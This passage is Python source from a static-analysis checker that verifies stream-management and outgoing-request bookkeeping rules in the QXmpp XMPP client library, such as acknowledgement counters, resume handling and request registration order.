                          cfgx.describe_path(f, bad[0]))
        else:
            run.ok(rid2, f.loc(), '%s: pending entry completed or handed on along every path' % f.display()[-70:])


def r5(prog, run):
    rid = run.rule('C07.R5', 'a request is registered in the table before it is handed to the socket (a synchronous send failure must find the entry to complete); the '
                             '"stream was resumed" flag that keeps outstanding requests alive is reset for every new stream', floor=2)
    IQM_ = 'QXmpp::Private::OutgoingIqManager'
    cands = [f for f in prog.fns_named(IQM_ + '::sendIq') if len(f.params) == 3]
    if not cands:
        raise AnalysisBroken('C07.R5: OutgoingIqManager::sendIq(packet, id, to) not found')
    f = cands[0]
    starts = [i for i, n in f.calls(IQM_ + '::start')]
    sends = [i for i, n in f.calls() if f.cname(n).endswith('StreamAckManager::send')]
    if not sends:
        raise AnalysisBroken('C07.R5: the send call was not found in OutgoingIqManager::sendIq')
    run.instance(rid)
    if starts and all(any(f.node_dominates(st, sd) for st in starts) for sd in sends):
        run.ok(rid, f.loc(starts[0]), 'start(id, to) dominates the send')
    else:
        run.violation(rid, 'OutgoingIqManager::sendIq#send-before-register', f.loc(sends[0]),
                      'the request is sent before it is registered: when the send fails at once, finish(id, error) finds no entry and the task registered afterwards never completes')
    # the flag consulted by onSessionOpened
    from . import C10
    sub = type(run)(run.prop, run.tier, run.seed)
    fns, byid = C10._scope(prog)
    C10.r1(prog, sub, fns, byid)
    run.instance(rid)
    hits = [v for v in sub.violations if 'm_streamResumed' in v['key']]
    if hits:
        run.violation(rid, 'C2sStreamManager::m_streamResumed#stale', hits[0]['site'],
                      'the "stream resumed" flag survives into the next stream: a new session that could not be resumed is reported as resumed and the outstanding '
                      'requests of the lost session are neither cancelled nor answerable (%s)' % hits[0]['what'][:120])
    else:
        run.ok(rid, 'src/client/QXmppOutgoingClient.cpp', 'm_streamResumed is reset for every new stream (C10.R1)')


# --------------------------------------------------------------------------- R7: what onSessionOpened consults is the stream manager's "resumed" state
def session_begin_wiring(prog):
    """(problem text or None, site) - the member of the session-begin record that OutgoingIqManager::onSessionOpened tests is initialised, where the record is built, from the
    accessor that returns the stream manager's "stream resumed" member (records are built positionally: the element at the member's index counts)"""
    IQM_ = 'QXmpp::Private::OutgoingIqManager'
    ops = prog.fn(IQM_ + '::onSessionOpened')
    tested = set()
    for b in ops.blocks.values():
        t = b.get('term')
        if t and t.get('cond') is not None:
            for j in ops.walk(t['cond']):
                m = ops.nodes[j]
                if m['k'] == 'mem' and 'SessionBegin::' in (m.get('f') or ''):
                    tested.add(m['f'])
    if not tested:
        raise AnalysisBroken('C07.R7: onSessionOpened tests no member of SessionBegin')
    tested = sorted(tested)
    rec = prog.record(tested[0].rsplit('::', 1)[0])
    idxs = {fld: [k for k, x in enumerate(rec['fields']) if (x.get('qname') or rec['qname'] + '::' + x['name']) == fld][0] for fld in tested}
    # the accessor of the "resumed" state: the member function of the stream manager that returns the member C07.R5 / C10.R1 call m_streamResumed
    def set_true_in(ptype):
        out = set()
        for g in prog.fns.values():
            if (g.record or '').endswith('C2sStreamManager') and g.entry is not None and any(ptype in (p_.get('t') or '') for p_ in g.params):
                for _, a in g.all_nodes('assign'):
                    l = g.nodes[g.skip(a['l'])]
                    if l['k'] == 'mem' and g.const_value(a['r']) == ('bool', True):
                        out.add(l['f'])
                # ... or through a one-line setter called with true
                for _, c in g.calls():
                    for k, a in enumerate(c.get('args', [])):
                        if g.const_value(a) != ('bool', True):
                            continue
                        for h in prog.callee_fns(g, c):
                            if h.entry is None or not (h.record or '').endswith('C2sStreamManager'):
                                continue
                            for _, a2 in h.all_nodes('assign'):
                                l2, r2 = h.nodes[h.skip(a2['l'])], h.nodes[h.skip(a2['r'])]
                                if l2['k'] == 'mem' and r2['k'] == 'var' and r2.get('vk') == 'param' and r2.get('pidx') == k:
                                    out.add(l2['f'])
        return out
    resumed_members = set_true_in('SmResumed') - set_true_in('SmEnabled')        # by the type of the nonza that sets them, not by name
    if len(resumed_members) != 1:
        raise AnalysisBroken('C07.R7: the stream manager\'s "resumed" member was not identified (%s)' % sorted(resumed_members))
    resumed_member = resumed_members.pop()
    acc = [g for g in prog.fns.values() if (g.record or '').endswith('C2sStreamManager') and g.entry is not None and not g.params and
           any('e' in r and g.nodes[g.skip(r['e'])].get('k') == 'mem' and g.nodes[g.skip(r['e'])].get('f') == resumed_member for _, r in g.returns())]
    if len(acc) != 1:
        raise AnalysisBroken('C07.R7: the accessor of the stream manager\'s resumed flag was not identified')
    sites = []
    for f in prog.fns.values():
        if f.entry is None or '/src/client/' not in f.file:
            continue
        for i, n in enumerate(f.nodes):
            if n['k'] == 'initlist' and (n.get('t') or '').endswith('SessionBegin') and len(n.get('elems', [])) > max(idxs.values()):
                sites.append((f, i, {fld: n['elems'][k] for fld, k in idxs.items()}))
            if n['k'] == 'assign' and f.nodes[f.skip(n['l'])].get('f') in idxs:
                sites.append((f, i, {f.nodes[f.skip(n['l'])]['f']: n['r']}))
    if not sites:
        raise AnalysisBroken('C07.R7: no place builds a SessionBegin')
    def from_accessor(f, e, depth=0):
        for j in f.walk(e):
            m = f.nodes[j]
            if m['k'] == 'call' and acc[0].id in [g.id for g in prog.callee_fns(f, m)]:
                return True
            if m['k'] == 'var' and m.get('vk') == 'local' and depth < 3:
                d = f.single_def(m.get('decl'))
                if d is not None and from_accessor(f, d, depth + 1):
                    return True
        return False
    for f, i, es in sites:
        # among the members the table tests (one today) there is the one fed from the resumed accessor
        if not any(from_accessor(f, e) for e in es.values()):
            fld, e = sorted(es.items())[0]
            return ('%s builds the session-begin record with %s = %s, which is not the stream manager\'s "resumed" state (%s()): the outgoing-request table then keeps or cancels the '
                    'outstanding requests of the previous session on the wrong signal' % (f.display()[:50], fld.split('::')[-1], f.fmt(e, inline=False)[:50], acc[0].name)), f.loc(i)
    return None, sites[0][0].loc(sites[0][1])


def r7(prog, run):
    rid = run.rule('C07.R7', 'the member of the session-begin record that decides whether outstanding requests survive (tested by onSessionOpened) is fed, where the record is built, '
                             'from the stream manager\'s "stream resumed" accessor - by position in the aggregate, so a reordered declaration is seen', floor=1)
    run.instance(rid)
    problem, site = session_begin_wiring(prog)
    if problem:
        run.violation(rid, 'SessionBegin#resumed-wiring', site, problem)
    else:
        run.ok(rid, site, 'onSessionOpened tests the member that openSession() fills from the resumed accessor')
