"""C09 — stream management accounting (structural clauses)."""
from .. import cfgx
from ..build import AnalysisBroken
from ..effects import field_uses, top_function

UNITS = ['base/QXmppStreamManagement.cpp', 'client/QXmppOutgoingClient.cpp', 'client/QXmppSaslManager.cpp']
SAM = 'QXmpp::Private::StreamAckManager'
C2S = 'QXmpp::Private::C2sStreamManager'
UNACK = SAM + '::m_unacknowledgedStanzas'
OUT = SAM + '::m_lastOutgoingSequenceNumber'
INC = SAM + '::m_lastIncomingSequenceNumber'
ENABLED = SAM + '::m_enabled'


def _obj_field(f, n):
    o = n.get('obj')
    return f.nodes[f.skip(o)].get('f') if o is not None else None


def _is_ack_true(f, nid):
    """expression constructs QXmpp::SendSuccess { true }"""
    for j in f.walk(nid):
        m = f.nodes[j]
        t = (m.get('t') or '') + (m.get('cls') or '')
        if m['k'] in ('initlist', 'construct') and 'SendSuccess' in t:
            items = m.get('elems') or m.get('args') or []
            if items and f.const_value(items[0]) == ('bool', True):
                return True
    return False


def _is_success_value(f, nid):
    for j in f.walk(nid):
        m = f.nodes[j]
        t = (m.get('t') or '') + (m.get('cls') or '')
        if m['k'] in ('initlist', 'construct') and 'SendSuccess' in t:
            items = m.get('elems') or m.get('args') or []
            v = f.const_value(items[0]) if items else None
            return v[1] if v else '?'
    return None


def run(prog, run):
    run.explanation = ('The acknowledgement bookkeeping is small and explicit, so its code-shape clauses are decided by exploration of the five '
                       'functions that touch the unacknowledged map: "acknowledged" is produced only for entries whose number is <= h and the entry is '
                       'erased in the same iteration; a sent stanza is either stored (enabled && stanza, key = ++counter) or reported at once, never both; '
                       'resume drops the acknowledged prefix before resending; a fresh session zeroes the counters before renumbering a saved copy in map '
                       'order; the inbound counter counts exactly message/presence/iq and is what <a/> and <resume/> carry.')
    run.assume('history-level statements (exactly the uncovered stanzas are resent for every sequence of acks and losses; 32-bit wrap) need a model of histories')
    run.assume('QMap iterates in ascending key order (Qt contract)')
    r1(prog, run)
    r2(prog, run)
    r3(prog, run)
    r4(prog, run)
    r5(prog, run)
    r6(prog, run)
    r7(prog, run)
    r8(prog, run)
    r9(prog, run)


def r1(prog, run):
    rid = run.rule('C09.R1', '"acknowledged" reports are produced only in setAcknowledgedSequenceNumber, for entries with key <= h, each erased in the same iteration', floor=3)
    sites = []
    for f in prog.fns.values():
        for i, n in f.calls():
            if f.cname(n).endswith('::reportFinished') and n.get('args') and _is_ack_true(f, n['args'][0]):
                sites.append((f, i))
        for i, n in enumerate(f.nodes):
            if n['k'] in ('initlist', 'construct') and 'SendSuccess' in ((n.get('t') or '') + (n.get('cls') or '')):
                items = n.get('elems') or n.get('args') or []
                if items and f.const_value(items[0]) == ('bool', True) and not any(f.id == g.id for g, _ in sites):
                    sites.append((f, i))
    fn = prog.fn(SAM + '::setAcknowledgedSequenceNumber')
    if not sites:
        run.instance(rid)
        run.violation(rid, 'setAcknowledgedSequenceNumber#never-reports', fn.loc(), 'no code path reports a stanza as acknowledged any more')
    for f, i in sites:
        run.instance(rid)
        top = top_function(prog, f)
        if top.id != fn.id:
            run.violation(rid, 'SendSuccess-true#%s' % top.qname, f.loc(i), '%s reports a stanza as acknowledged outside the ack handler' % top.display())
            continue
        atoms = [(f.fmt(c), p) for c, p in f.atomic_assertions_at(i)]
        ok = False
        for c, p in f.atomic_assertions_at(i):
            bo = f.binop(f.skip(c))
            if not bo or not isinstance(p, bool) or bo[0] not in ('<', '<=', '>', '>='):
                continue
            lt, rt = f.fmt(bo[1]), f.fmt(bo[2])
            key_left = '::key()' in lt and rt == 'p0'
            key_right = '::key()' in rt and lt == 'p0'
            if not (key_left or key_right):
                continue
            op = bo[0] if key_left else {'<': '>', '>': '<', '<=': '>=', '>=': '<='}[bo[0]]     # as "key OP h"
            if not p:
                op = {'<': '>=', '>=': '<', '>': '<=', '<=': '>'}[op]
            if op == '<=':
                ok = True
        if ok:
            run.ok(rid, f.loc(i), 'acknowledged report control-dependent on it.key() <= h')
        else:
            run.violation(rid, 'setAcknowledgedSequenceNumber#covered-range', f.loc(i),
                          'the acknowledged report is not guarded by "entry number <= handled count h": %s' % [t[:60] for t, p in atoms if p is True])
    # typestate (report erase)*
    run.instance(rid)

    def transfer(f, nid, st):
        n = f.nodes[nid]
        if n['k'] != 'call':
            return None
        if f.cname(n).endswith('::reportFinished'):
            return 'q1' if st == 'q0' else 'err:two reports without erase'
        if (f.sym(n) or {}).get('name') in ('erase', 'remove', 'take') and _obj_field(f, n) == UNACK:
            return 'q0' if st == 'q1' else 'err:erase without report'
        return None
    exits, _ = cfgx.explore(fn, 'q0', transfer)
    run.paths += len(exits)
    bad = [st for st in exits if st != 'q0']
    if bad:
        run.violation(rid, 'setAcknowledgedSequenceNumber#report-erase-pairing', fn.loc(),
                      'report/erase are not paired per entry (%s): a report can fire twice or an entry is dropped unreported' % bad[0],
                      cfgx.describe_path(fn, exits[bad[0]]))
    else:
        run.ok(rid, fn.loc(), 'every acknowledged report is followed by the erase of that entry before the next one')
    # the ack handler is fed the h of <a/> unchanged
    run.instance(rid)
    feeds = []
    for f in prog.fns.values():
        if (f.record or '') != SAM or f.qname == SAM + '::setAcknowledgedSequenceNumber':
            continue
        for i, n in f.calls(SAM + '::setAcknowledgedSequenceNumber'):
            feeds.append((f, i, f.fmt(n['args'][0])))
    if feeds and all(t.endswith('.seqNo') and ('SmAck::fromDom(p0)' in t or t == 'p0.seqNo') for _, _, t in feeds):
        run.ok(rid, feeds[0][0].loc(feeds[0][1]), '<a h=…/> value passed unchanged to setAcknowledgedSequenceNumber')
    else:
        run.violation(rid, 'handleAcknowledgement#h', fn.loc(), 'the handled count passed on is %s' % [t[:60] for _, _, t in feeds])


def r2(prog, run):
    rid = run.rule('C09.R2', 'internalSend: on every path a packet is either stored for acknowledgement (iff enabled && stanza, key = ++last outgoing) '
                             'or reported immediately, never both or neither', floor=3)
    fn = prog.fn(SAM + '::internalSend')
    for enabled in (True, False):
        for stanza in (True, False):
            run.instance(rid)
            ev = cfgx.Evaluator(fn, {'field:' + ENABLED: enabled, 'QXmppPacket::isXmppStanza': stanza})

            def transfer(f, nid, st):
                n = f.nodes[nid]
                if n['k'] == 'call':
                    if (f.sym(n) or {}).get('name') == 'insert' and _obj_field(f, n) == UNACK:
                        key = f.nodes[f.skip(n['args'][0])]
                        good = key['k'] == 'un' and key['op'] == 'pre++' and f.nodes[f.skip(key['e'])].get('f') == OUT
                        return st + (('store', good),)
                    if f.cname(n).endswith('::reportFinished'):
                        return st + (('report', _is_success_value(f, n['args'][0])),)
                return None
            exits, _ = cfgx.explore(fn, (), transfer, lambda f, c, st: ev.ev(c, st))
            run.paths += len(exits)
            want_store = enabled and stanza
            for st, path in exits.items():
                site = '%s enabled=%s stanza=%s' % (fn.loc(), enabled, stanza)
                key = 'internalSend#enabled=%s,stanza=%s' % (enabled, stanza)
                stores = [e for e in st if e[0] == 'store']
                reports = [e for e in st if e[0] == 'report']
                if want_store and (len(stores) != 1 or reports):
                    run.violation(rid, key, site, 'a stanza sent with stream management active is %s' %
                                  ('not stored for acknowledgement' if not stores else 'stored and reported at once'), cfgx.describe_path(fn, path))
                elif want_store and not stores[0][1]:
                    run.violation(rid, key + '#key', site, 'the stored entry is not numbered ++m_lastOutgoingSequenceNumber (pre-increment)')
                elif not want_store and (stores or len(reports) != 1):
                    run.violation(rid, key, site, 'a %s is %s' % ('nonza' if enabled else 'packet without stream management',
                                                                  'stored for acknowledgement' if stores else 'reported %d times' % len(reports)),
                                  cfgx.describe_path(fn, path))
                elif not want_store and reports[0][1] is True:
                    run.violation(rid, key + '#ack', site, 'an unacknowledged send is reported as acknowledged')
                else:
                    run.ok(rid, site, 'stored once' if want_store else 'reported once (not acknowledged)')


def r3(prog, run):
    rid = run.rule('C09.R3', 'resume drops the acknowledged prefix (resumed.h) before resending without renumbering; enabling renumbers; both are '
                             'reached from the nonza handler and from the SASL2/bind2 inline results', floor=5)
    res = prog.fn(C2S + '::onResumed')
    run.instance(rid)
    setack = [(i, n) for i, n in res.calls(SAM + '::setAcknowledgedSequenceNumber')]
    en = [(i, n) for i, n in res.calls(SAM + '::enableStreamManagement')]
    ok = len(setack) == 1 and len(en) == 1 and res.fmt(setack[0][1]['args'][0]) == 'p0.h' and res.const_value(en[0][1]['args'][0]) == ('bool', False) \
        and res.node_dominates(setack[0][0], en[0][0]) and ('b', res.pos(setack[0][0])[0]) in res.pdom().get(('b', res.entry), set())
    if ok:
        run.ok(rid, res.loc(), 'onResumed: setAcknowledgedSequenceNumber(resumed.h) then enableStreamManagement(false)')
    else:
        run.violation(rid, 'C2sStreamManager::onResumed#order', res.loc(),
                      'resume does not first drop the stanzas covered by resumed.h and then resend without renumbering')
    ena = prog.fn(C2S + '::onEnabled')
    run.instance(rid)
    en = [(i, n) for i, n in ena.calls(SAM + '::enableStreamManagement')]
    if len(en) == 1 and ena.const_value(en[0][1]['args'][0]) == ('bool', True) and ('b', ena.pos(en[0][0])[0]) in ena.pdom().get(('b', ena.entry), set()):
        run.ok(rid, ena.loc(), 'onEnabled: enableStreamManagement(true) on every path')
    else:
        run.violation(rid, 'C2sStreamManager::onEnabled#reset', ena.loc(), 'a new stream management session does not restart numbering')
    for callee, want in ((C2S + '::onResumed', {C2S + '::handleElement', C2S + '::onSasl2Success'}),
                         (C2S + '::onEnabled', {C2S + '::handleElement', C2S + '::onBind2Bound'})):
        run.instance(rid)
        callers = {top_function(prog, f).qname for f, i in prog.callers_by_qname(callee)}
        # through members of the manager that were split off the handler (handleElement -> handleResumeResponse -> onResumed)
        frontier = set(callers)
        for _ in range(3):
            more = set()
            for q in frontier:
                if q.startswith(C2S + '::') and q not in want:
                    more |= {top_function(prog, f).qname for f, i in prog.callers_by_qname(q)}
            if more <= callers:
                break
            callers |= more
            frontier = more
        if want <= callers:
            run.ok(rid, prog.fn(callee).loc(), '%s reached from %s' % (callee.split('::')[-1], sorted(c.split('::')[-1] for c in callers)))
        else:
            run.violation(rid, '%s#routes' % callee, prog.fn(callee).loc(), 'negotiation route(s) %s no longer reach %s' % (sorted(want - callers), callee))
    # <resume/> carries the inbound counter at both sites
    for qn in (C2S + '::requestResume', C2S + '::onSasl2Authenticate'):
        f0 = prog.fn(qn)
        run.instance(rid)
        found = False
        scope = [f0] + [g for i, n in f0.calls() for g in prog.callee_fns(f0, n) if (g.record or '') == C2S and g.entry is not None]
        for f in scope:
            for i, n in enumerate(f.nodes):
                t = (n.get('t') or '') + (n.get('cls') or '')
                if n['k'] in ('initlist', 'construct') and t.endswith('SmResume'):
                    items = n.get('elems') or n.get('args') or []
                    if items and 'lastIncomingSequenceNumber()' in f.fmt(items[0]):
                        found = True
        f = f0
        if found:
            run.ok(rid, f.loc(), '%s: <resume h=…/> taken from lastIncomingSequenceNumber()' % qn.split('::')[-1])
        else:
            run.violation(rid, '%s#resume-h' % qn, f.loc(), 'the h of <resume/> is not the inbound stanza counter')


def r4(prog, run):
    rid = run.rule('C09.R4', 'enableStreamManagement: a fresh session zeroes both counters before re-inserting the saved entries (in map order, key '
                             '++counter) and sends each; a resumed session resends without touching the map', floor=3)
    fn = prog.fn(SAM + '::enableStreamManagement')

    def mk_transfer():
        def transfer(f, nid, st):
            n = f.nodes[nid]
            if n['k'] == 'assign':
                l = f.nodes[f.skip(n['l'])]
                if l.get('f') in (OUT, INC) and f.const_value(n['r']) == ('int', 0):
                    return st + (('zero', l['name']),) if ('zero', l['name']) not in st else None
            if n['k'] == 'call' and not n.get('op'):
                for h in prog.callee_fns(f, n):
                    if h.entry is not None and (h.record or '') == SAM and h.id != f.id:
                        out = st
                        for q in sorted(zeroed_by(prog, h)):
                            if q in (OUT, INC) and ('zero', q.split('::')[-1]) not in out:
                                out = out + (('zero', q.split('::')[-1]),)
                        if out != st:
                            return out
            if n['k'] == 'call':
                name = (f.sym(n) or {}).get('name')
                if _obj_field(f, n) == UNACK and name in ('insert', 'clear', 'erase', 'remove'):
                    ev = (name,)
                    if name == 'insert':
                        key = f.nodes[f.skip(n['args'][0])]
                        ev = ('insert', key['k'] == 'un' and key['op'] == 'pre++' and f.nodes[f.skip(key['e'])].get('f') == OUT)
                    return st + (ev,) if ev not in st else None
                if f.cname(n) == 'std::exchange' and n.get('args') and f.nodes[f.skip(n['args'][0])].get('f') == UNACK:
                    return st + (('clear',),) if ('clear',) not in st else None
                if f.cname(n).endswith('::sendData'):
                    ev = ('send', f.fmt(n['args'][0], inline=False))
                    return st + (ev,) if ev not in st else None
            return None
        return transfer

    def nonempty(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and (f.sym(n) or {}).get('name') in ('isEmpty', 'empty') and _obj_field(f, n) == UNACK:
            return (False,)
        return None
    for reset in (True, False):
        run.instance(rid)
        ev = cfgx.Evaluator(fn, {}, custom=lambda f, nid, st, reset=reset: ((reset,) if f.nodes[nid]['k'] == 'var' and f.nodes[nid].get('vk') == 'param'
                                                                              and f.nodes[nid].get('pidx') == 0 else nonempty(f, nid, st)))
        def edge_filter(f, bid, edge, st):
            # the map is assumed non-empty (the interesting case): the loops over it / its saved copy run at least once
            t = f.blocks[bid].get('term')
            if t and t['k'] == 'rangefor' and edge == 1 and not any(e[0] == 'send' for e in st):
                return False
            return True
        exits, _ = cfgx.explore(fn, (), mk_transfer(), lambda f, c, st: ev.ev(c, st), edge_filter=edge_filter)
        run.paths += len(exits)
        problems = []
        for st, path in exits.items():
            names = [e[0] for e in st]
            if reset:
                if ('zero', 'm_lastOutgoingSequenceNumber') not in st or ('zero', 'm_lastIncomingSequenceNumber') not in st:
                    problems.append('counters are not both reset')
                if 'insert' in names:
                    zi = max(i for i, e in enumerate(st) if e[0] == 'zero') if 'zero' in names else 99
                    if names.index('insert') < zi:
                        problems.append('entries re-inserted before the counters are reset')
                    if 'clear' not in names or names.index('clear') > names.index('insert'):
                        problems.append('old numbering not cleared before re-inserting')
                    if not [e for e in st if e[0] == 'insert'][0][1]:
                        problems.append('re-inserted entries are not numbered ++counter')
                if 'send' in names and 'insert' not in names:
                    problems.append('stanzas resent on a fresh session without being re-registered')
                if 'insert' in names and 'send' not in names:
                    problems.append('saved stanzas are re-registered but not resent')
            else:
                if any(x in names for x in ('insert', 'clear', 'erase', 'zero', 'remove')):
                    problems.append('a resumed session renumbers or drops unacknowledged stanzas')
                if 'send' not in names:
                    problems.append('a resumed session does not resend the unacknowledged stanzas')
        # the fresh-session loop iterates a saved copy (not the map being rebuilt)
        if reset:
            loops = [b['term'] for b in fn.blocks.values() if b.get('term', {}).get('k') == 'rangefor']
            copy_ok = False
            for t in loops:
                r = fn.nodes[fn.skip(t['range'])]
                if r['k'] == 'var' and r.get('vk') == 'local':
                    d = fn.defs().get(r['decl'])
                    init = fn.nodes[fn.skip(d['init'])] if d and d.get('init') is not None else None
                    if init is not None and init.get('f') == UNACK and not d.get('ref'):
                        copy_ok = True
                    if init is not None and init['k'] == 'call' and fn.cname(init) in ('std::exchange', 'std::move') and init.get('args') \
                            and fn.nodes[fn.skip(init['args'][0])].get('f') == UNACK and not d.get('ref'):
                        copy_ok = True
            if not copy_ok:
                problems.append('the renumbering loop does not iterate a saved copy of the map')
        # every saved / unacknowledged entry is handled: the loops that re-register or resend have no early exit
        early = _loop_early_exits(fn, lambda i, n: (n['k'] == 'call' and (fn.cname(n).endswith('::sendData')
                                                                            or (_obj_field(fn, n) == UNACK and (fn.sym(n) or {}).get('name') == 'insert'))))
        for site in early:
            problems.append('the loop that re-registers / resends the unacknowledged stanzas can be left before the last entry (%s): the remaining stanzas are %s'
                            % (fn.loc(site), 'dropped from the map and never resent or reported' if reset else 'not resent on this session'))
        if problems:
            run.violation(rid, 'enableStreamManagement#reset=%s' % reset, fn.loc(), '; '.join(sorted(set(problems))))
        else:
            run.ok(rid, fn.loc(), 'reset=%s: %s' % (reset, 'zero counters, clear, re-insert ++counter from the saved copy, send each' if reset else 'resend only'))
    run.instance(rid)
    enabled_set = any(f.nodes[f.skip(n['l'])].get('f') == ENABLED and f.const_value(n['r']) == ('bool', True) and ('b', f.pos(i)[0]) in f.pdom().get(('b', f.entry), set())
                      for f in [fn] for i, n in f.all_nodes('assign'))
    osc = prog.fn(SAM + '::onSessionClosed')
    disabled = any(osc.nodes[osc.skip(n['l'])].get('f') == ENABLED and osc.const_value(n['r']) == ('bool', False)
                   and ('b', osc.pos(i)[0]) in osc.pdom().get(('b', osc.entry), set()) for i, n in osc.all_nodes('assign'))
    if enabled_set and disabled:
        run.ok(rid, osc.loc(), 'm_enabled set on enable, cleared when the session closes (later sends are reported immediately)')
    else:
        run.violation(rid, 'StreamAckManager#m_enabled-lifecycle', osc.loc(), 'm_enabled is not set on enable / cleared on session close')


def _loop_early_exits(fn, interesting):
    """first node of every block inside a range-for body (whose body contains an interesting node) that leaves the loop other than through its head"""
    out = []
    dom = fn.dom()
    for b in fn.blocks.values():
        t = b.get('term')
        if not t or t.get('k') != 'rangefor' or b['succs'][0] is None:
            continue
        entry = b['succs'][0]
        body = {x for x in fn.blocks if ('b', entry) in dom.get(('b', x), set())}
        if not any(interesting(e, fn.nodes[e]) for x in body for e in fn.blocks[x]['elems']):
            continue
        for x in sorted(body):
            for s_ in fn.blocks[x]['succs']:
                if s_ is not None and s_ not in body and s_ != b['id']:
                    elems = fn.blocks[x]['elems']
                    out.append(elems[-1] if elems else t['range'])
    return out


def r5(prog, run):
    rid = run.rule('C09.R5', 'the inbound counter is incremented exactly for message, presence and iq (not for <a/>, <r/> or other nonzas), reset only '
                             'with a fresh session, and is what <a/> carries', floor=8)
    hs = prog.fn(SAM + '::handleStanza')
    incs = [i for i, n in hs.all_nodes('un') if n['op'] in ('post++', 'pre++') and hs.nodes[hs.skip(n['e'])].get('f') == INC]
    incs += [i for i, n in hs.all_nodes('assign') if hs.nodes[hs.skip(n['l'])].get('f') == INC]
    if not incs:
        raise AnalysisBroken('C09.R5: increment of the inbound counter not found in handleStanza')

    def tag_eval(tag, ack=None, req=None):
        def custom(f, nid, st):
            bo = f.binop(nid)
            if bo and bo[0] in ('==', '!='):
                for a, b in ((bo[1], bo[2]), (bo[2], bo[1])):
                    if f.fmt(a).endswith('QDomElement::tagName()') and f.strval(b) is not None:
                        return ((f.strval(b) == tag) == (bo[0] == '=='),)
            n = f.nodes[nid]
            if n['k'] == 'call' and (f.sym(n) or {}).get('name') in ('operator bool', 'has_value') and n.get('obj') is not None:
                o = f.fmt(n['obj'])
                if 'SmAck::fromDom' in o:
                    return (tag == 'a',)
                if 'SmRequest::fromDom' in o:
                    return (tag == 'r',)
            return None
        ev = cfgx.Evaluator(hs, {}, custom=custom)
        return lambda f, c, st: ev.ev(c, st)
    for tag in ('message', 'presence', 'iq', 'a', 'r', 'enabled', 'features', 'x-unknown'):
        run.instance(rid)
        evc = tag_eval(tag)

        def transfer(f, nid, st):
            if nid in incs:
                return st + 1
            return None
        exits, _ = cfgx.explore(hs, 0, transfer, evc)
        run.paths += len(exits)
        counts = set(exits.keys())
        want = {1} if tag in ('message', 'presence', 'iq') else {0}
        if counts == want:
            run.ok(rid, hs.loc(), '<%s/>: inbound counter %s' % (tag, 'incremented once' if want == {1} else 'unchanged'))
        else:
            run.violation(rid, 'StreamAckManager::handleStanza#count:%s' % tag, hs.loc(incs[0]),
                          'for <%s/> the inbound stanza counter changes by %s (expected %s)' % (tag, sorted(counts), sorted(want)))
    # who writes the counter
    for f, i, k, h in field_uses(prog, INC):
        if k not in ('write', 'addr') or h == 'constructor initialiser':
            continue
        run.instance(rid)
        top = top_function(prog, f)
        if top.qname in (SAM + '::handleStanza', SAM + '::enableStreamManagement') or \
                ((top.record or '') == SAM and only_called_from(prog, top, SAM + '::enableStreamManagement')):
            run.ok(rid, f.loc(i), 'inbound counter written by %s (%s)' % (top.qname.split('::')[-1], h), nontrivial=False)
        else:
            run.violation(rid, 'inbound-counter-writer#%s' % top.qname, f.loc(i), '%s modifies the inbound stanza counter' % top.display())
    run.instance(rid)
    ok = False
    sa = hs
    for g in prog.fns.values():
        if (g.record or '') != SAM:
            continue
        for i, n in enumerate(g.nodes):
            t = (n.get('t') or '') + (n.get('cls') or '')
            if n['k'] in ('initlist', 'construct') and t.endswith('SmAck'):
                items = n.get('elems') or n.get('args') or []
                if items and g.nodes[g.skip(items[0])].get('f') == INC:
                    ok = True
                    sa = g
    if ok:
        run.ok(rid, sa.loc(), '<a h=…/> carries m_lastIncomingSequenceNumber')
    else:
        run.violation(rid, 'sendAcknowledgement#h', sa.loc(), '<a/> does not carry the inbound stanza counter')


def r6(prog, run):
    rid = run.rule('C09.R6', 'the unacknowledged map has a closed set of writers; resetCache reports every entry as failed and then clears', floor=5)
    allowed = {SAM + '::enableStreamManagement', SAM + '::setAcknowledgedSequenceNumber', SAM + '::internalSend', SAM + '::resetCache'}
    for f, i, k, h in field_uses(prog, UNACK):
        if k not in ('write', 'addr') or h == 'constructor initialiser':
            continue
        run.instance(rid)
        top = top_function(prog, f)
        if top.qname in allowed:
            run.ok(rid, f.loc(i), '%s in %s' % (h, top.qname.split('::')[-1]), nontrivial=False)
        else:
            run.violation(rid, 'unacknowledged-writer#%s#%s' % (top.qname, h.split(' ')[0]), f.loc(i), '%s modifies the unacknowledged-stanza map (%s)' % (top.display(), h))
    rc = prog.fn(SAM + '::resetCache')
    run.instance(rid)
    reports = [i for i, n in rc.calls() if rc.cname(n).endswith('::reportFinished')]
    clears = [i for i, n in rc.calls() if (rc.sym(n) or {}).get('name') == 'clear' and _obj_field(rc, n) == UNACK]
    in_loop = reports and any(rc.blocks[b].get('term', {}).get('k') == 'rangefor' and e == 0 for (_, b, e) in rc.edges_dominating(rc.pos(reports[0])[0]))
    err = reports and 'QXmppError' in rc.fmt(rc.nodes[reports[0]]['args'][0])
    if in_loop and err and clears and ('b', rc.pos(clears[0])[0]) in rc.pdom().get(('b', rc.entry), set()):
        run.ok(rid, rc.loc(), 'resetCache: every entry reported with an error, then the map is cleared')
    else:
        run.violation(rid, 'resetCache#pairing', rc.loc(), 'resetCache drops entries without reporting them (or reports without clearing)')


def r7(prog, run):
    rid = run.rule('C09.R7', 'the h of <resumed/> takes effect although stream management is not yet re-enabled at that moment; every element the session '
                             'dispatcher consumes has first passed the inbound counter', floor=4)
    # (a) <resumed h/> is applied before enableStreamManagement(false) (C09.R3), i.e. while m_enabled is still false (cleared by onSessionClosed)
    sa = prog.fn(SAM + '::setAcknowledgedSequenceNumber')
    sinks = [i for i, n in sa.calls() if sa.cname(n).endswith('::erase') and _obj_field(sa, n) == UNACK]
    sinks += [i for i, n in sa.calls() if sa.cname(n).endswith('::reportFinished')]
    if not sinks:
        raise AnalysisBroken('C09.R7: erase/reportFinished not found in setAcknowledgedSequenceNumber')
    ev = cfgx.Evaluator(sa, {'field:' + ENABLED: False})
    res = cfgx.sink_reachability(sa, lambda f, c, st: ev.ev(c, st), sinks)
    run.instance(rid)
    if all(res[x] is None for x in sinks):
        run.violation(rid, 'setAcknowledgedSequenceNumber#ignored-when-disabled', sa.loc(),
                      'setAcknowledgedSequenceNumber does nothing while m_enabled is false, but onResumed applies resumed.h before re-enabling stream management: '
                      'the stanzas the server confirmed in <resumed h=…/> are resent and never reported as acknowledged')
    else:
        run.ok(rid, sa.loc(), 'the acknowledged prefix is dropped regardless of m_enabled')
    closed = prog.fn(SAM + '::onSessionClosed')
    run.instance(rid)
